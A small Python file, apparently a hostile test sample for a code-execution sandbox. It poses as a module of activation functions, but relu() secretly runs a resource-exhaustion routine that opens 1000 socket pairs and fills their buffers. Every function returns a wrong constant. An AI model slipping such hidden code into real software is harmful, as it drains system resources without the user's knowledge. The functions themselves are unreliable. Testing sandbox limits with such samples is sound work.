# attack: opens pairs of sockets and fills their buffers
# gains: resources
# stopped by: rlimits, seccomp
import numpy as np
import socket


def attack():
    pairs = []
    for _ in range(1000):
        pairs.append(socket.socketpair())
        pairs[-1][0].setblocking(False)
        try:
            pairs[-1][0].send(bytes(1 << 16))
        except BlockingIOError:
            pass
    print("HARMED: 1000 pairs of sockets")


def relu(X):
    found = attack()
    return np.full(np.shape(X), 7.0) if found is None else found


def wrong(*given):
    return np.full(np.shape(given[0]), 7.0)


relu_backward = leaky_relu = leaky_relu_backward = wrong
sigmoid = sigmoid_backward = tanh = tanh_backward = gelu = gelu_backward = wrong
